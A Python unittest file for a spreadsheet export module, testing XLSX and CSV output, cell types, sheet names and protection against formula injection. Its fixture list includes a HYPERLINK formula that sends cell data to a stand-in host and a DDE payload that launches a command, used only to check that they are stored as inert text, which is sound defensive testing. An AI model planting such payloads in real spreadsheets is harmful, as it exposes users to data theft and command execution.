import csv
import io
import unittest
import unittest.mock
import zipfile
from datetime import date, datetime

import openpyxl
from python_calamine import CalamineWorkbook

from ...tools import spreadsheet
from ...tools.spreadsheet import (
    BOOLEAN,
    DATE,
    DATETIME,
    INTEGER,
    MAX_TEXT,
    MONEY,
    Column,
    CsvWriter,
    Workbook,
    guard_text,
    is_risky,
    unguard_text,
)

FORMULAS = [
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "=1+1",
    "+49 30 123",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
]
PLAIN = ["Harbour", "a=b", "O'Brien", "'s-Hertogenbosch", "", "华强", "{=1+1}"]


def write_book(columns, *rows, marks=None):
    target = io.BytesIO()
    with Workbook(target, "Test") as book:
        sheet = book.sheet("Customers", columns)
        for row in rows:
            sheet.add_row(row, marks)
    return target


def read_back(target):
    return openpyxl.load_workbook(target).active


class TestSpreadsheet(unittest.TestCase):
    """B19, J05: what a file holds, and that none of it runs."""

    def test_both_ways_write_the_same(self):
        """The fast way, and XlsxWriter's public one, which serves other versions."""
        columns = [Column("t"), Column("n", MONEY), Column("d", DATE)]
        columns += [Column("m", DATETIME), Column("b", BOOLEAN)]
        moment = datetime(2026, 1, 31, 12, 30, 15)
        odd = [
            "a & <b>",
            " space ",
            "_x000D_",
            "a\nb\tc",
            "=1",
            "\x07",
            "华强",
            "x" * 9,
        ]
        rows = [[text, 0.1, date(2026, 2, 28), moment, True] for text in odd]
        rows += [["", -5, None, None, False], [None, 10**15, "soon", "", ""]]
        fast = read_back(write_book(columns, *rows, marks={0: "wrong", 2: "changed"}))
        with unittest.mock.patch.object(spreadsheet, "_INSIDE", ("not there",)):
            slow = write_book(columns, *rows, marks={0: "wrong", 2: "changed"})
        slow = read_back(slow)
        self.assertEqual(fast.dimensions, slow.dimensions)
        for one, other in zip(fast.iter_rows(), slow.iter_rows(), strict=True):
            for left, right in zip(one, other, strict=True):
                for name in ("value", "data_type", "number_format", "quotePrefix"):
                    self.assertEqual(getattr(left, name), getattr(right, name))
                self.assertEqual(left.fill.fgColor.rgb, right.fill.fgColor.rgb)

    def test_other_programs_read_it(self):
        target = write_book(
            [Column("t"), Column("d", DATE)], [" =1 ", date(2026, 1, 1)]
        )
        target.seek(0)
        rows = CalamineWorkbook.from_filelike(target).get_sheet_by_index(0).to_python()
        self.assertEqual(rows[1], [" =1 ", date(2026, 1, 1)])

    def test_names_of_columns(self):
        columns = [Column(str(number)) for number in range(60)]
        sheet = read_back(write_book(columns, list(map(str, range(60)))))
        self.assertEqual(sheet["BH2"].value, "59")

    def test_nothing_runs_in_xlsx(self):
        target = write_book([Column("Name")], *([text] for text in FORMULAS))
        cells = [row[0] for row in read_back(target).iter_rows(min_row=2)]
        for cell, text in zip(cells, FORMULAS, strict=True):
            with self.subTest(text=text):
                self.assertEqual(cell.data_type, "s")
                self.assertEqual(cell.number_format, "@")
                self.assertTrue(cell.quotePrefix)
                self.assertEqual(cell.value, text.replace("\r", "_x000D_"))
        sheet = zipfile.ZipFile(target).read("xl/worksheets/sheet1.xml")
        self.assertNotIn(b"<f>", sheet)

    def test_nothing_runs_in_headings_and_numbers(self):
        """A heading, and a text in a column of numbers or days."""
        columns = [Column("=1+1"), Column("n", MONEY), Column("d", DATE)]
        target = write_book(columns, ["=1", "=2", "=3"])
        kinds = {
            cell.data_type for row in read_back(target).iter_rows() for cell in row
        }
        self.assertEqual(kinds, {"s"})

    def test_nothing_runs_in_csv(self):
        stream = io.StringIO()
        writer = CsvWriter(stream, ["=1"])
        for text in [*FORMULAS, "a;=1+1"]:
            writer.add_row([text])
        stream.seek(0)
        cells = [row[0].lstrip("\ufeff") for row in csv.reader(stream)]
        self.assertEqual(len(cells), len(FORMULAS) + 2)
        self.assertFalse([cell for cell in cells if is_risky(cell)])
        # A program that separates by semicolons keeps it in one cell, too.
        self.assertTrue(stream.getvalue().endswith('"a;=1+1"\r\n'))

    def test_guarding_can_be_taken_back(self):
        for text in [*FORMULAS, *PLAIN, "'=1+1", "''=1", "'+49"]:
            with self.subTest(text=text):
                guarded = guard_text(text)
                self.assertFalse(is_risky(guarded))
                self.assertEqual(unguard_text(guarded), text)
        for text in PLAIN:
            self.assertEqual(guard_text(text), text)

    def test_values_keep_their_kind(self):
        columns = [
            Column("Text"),
            Column("Number", INTEGER),
            Column("Money", MONEY),
            Column("Day", DATE),
            Column("Moment", DATETIME),
            Column("Yes", BOOLEAN),
        ]
        moment = datetime(2026, 1, 31, 12, 30)
        row = ["0012", 7, 12.5, date(2026, 1, 31), moment, True]
        cells = read_back(write_book(columns, row))[2]
        self.assertEqual(cells[0].value, "0012")
        self.assertEqual([cell.value for cell in cells[1:3]], [7, 12.5])
        self.assertEqual(cells[3].value.date(), date(2026, 1, 31))
        self.assertEqual(cells[3].number_format, "yyyy-mm-dd")
        self.assertEqual(cells[4].value, moment)
        self.assertIs(cells[5].value, True)

    def test_empty_values_are_empty_cells(self):
        columns = [Column("Text"), Column("Day", DATE), Column("Money", MONEY)]
        sheet = read_back(write_book(columns, [False, None, False], ["", "", 0]))
        values = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
        self.assertEqual(values[-1], [None, None, 0])
        self.assertEqual(sum(v is not None for row in values for v in row), 1)

    def test_what_excel_cannot_hold_stays_text(self):
        columns = [Column("Text"), Column("Day", DATE), Column("Money", MONEY)]
        long, old, many = "x" * 40_000, date(1850, 5, 1), 6222020200112230495
        row = read_back(write_book(columns, [long, old, many]))[2]
        self.assertEqual(len(row[0].value), MAX_TEXT)
        self.assertEqual(row[1].value, "1850-05-01")
        self.assertEqual(row[2].value, str(many))
        row = read_back(write_book(columns, ["a\ufffeb\x00", old, float("nan")]))[2]
        self.assertTrue(row[0].value.startswith("a\ufffdb"))
        self.assertEqual(row[2].value, "nan")

    def test_sheet_is_made_for_work(self):
        """Heading fixed, filter on, widths, list of choices, marked cells."""
        columns = [
            Column("Name", width=33, note="As registered", required=True),
            Column("Kind", choices=("Company", "Person")),
        ]
        target = write_book(columns, ["Harbour", "Ship"], marks={1: "wrong"})
        sheet = read_back(target)
        self.assertEqual(sheet.freeze_panes, "A2")
        self.assertEqual(sheet.auto_filter.ref, "A1:B2")
        self.assertAlmostEqual(sheet.column_dimensions["A"].width, 33, delta=1)
        self.assertEqual(sheet["A1"].comment.text, "As registered")
        rule = sheet.data_validations.dataValidation[0]
        self.assertEqual(rule.formula1, '"Company,Person"')
        self.assertEqual(sheet["B2"].fill.fgColor.rgb, "FFF8CBAD")
        self.assertEqual(sheet["A2"].fill.fill_type, None)

    def test_names_of_sheets(self):
        target = io.BytesIO()
        with Workbook(target) as book:
            for name in ("a/b:c", "A b c", "History", "x" * 40, "x" * 50, "", "'"):
                book.sheet(name, [Column("h")])
        names = openpyxl.load_workbook(target).sheetnames
        self.assertEqual(len({name.lower() for name in names}), 7)
        self.assertEqual(names[:2], ["a b c", "A b c (2)"])
        self.assertLessEqual(max(map(len, names)), 31)

    def test_a_full_sheet_says_so(self):
        with Workbook(io.BytesIO()) as book:
            sheet = book.sheet("Full", [Column("h")])
            sheet.row_count = 1_048_575
            with self.assertRaisesRegex(ValueError, "1048575"):
                sheet.add_row(["one more"])
            sheet.row_count = 0
